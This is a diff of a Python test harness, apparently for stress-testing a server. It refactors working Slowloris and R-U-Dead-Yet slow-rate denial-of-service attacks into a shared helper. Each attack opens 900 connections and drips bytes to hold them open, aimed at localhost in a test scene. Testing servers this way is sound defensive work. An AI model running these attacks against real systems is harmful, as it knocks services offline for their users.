@@ -44,24 +44,25 @@ def half_open_clients(scene):
     return f"{len(connections)} begun, {resets} reset"
 
 
+def trickle(scene, beginning, byte):
+    """900 requests that begin so, and go on with a byte at a time."""
+    connections = http1.connect_many(scene.http, 900, 2, beginning)
+    while not scene.is_over(2):
+        connections = [connection for connection in connections if push(connection, byte, 0.001)]
+        time.sleep(0.1)
+    return f"{len(connections)} held"
+
+
 @attack()
 def slow_heads(scene):
     """900 heads that come a byte at a time (Slowloris)."""
-    connections = http1.connect_many(scene.http, 900, 2, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ")
-    while not scene.is_over(2):
-        connections = [connection for connection in connections if push(connection, b"a", 0.001)]
-        time.sleep(0.1)
-    return f"{len(connections)} held"
+    return trickle(scene, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ", b"a")
 
 
 @attack()
 def slow_bodies(scene):
     """900 bodies that come a byte at a time (R-U-Dead-Yet)."""
-    connections = http1.connect_many(scene.http, 900, 2, http1.head("POST", INFER, [("Content-Length", 30 << 20)]))
-    while not scene.is_over(2):
-        connections = [connection for connection in connections if push(connection, b" ", 0.001)]
-        time.sleep(0.1)
-    return f"{len(connections)} held"
+    return trickle(scene, http1.head("POST", INFER, [("Content-Length", 30 << 20)]), b" ")
 
 
 @attack()
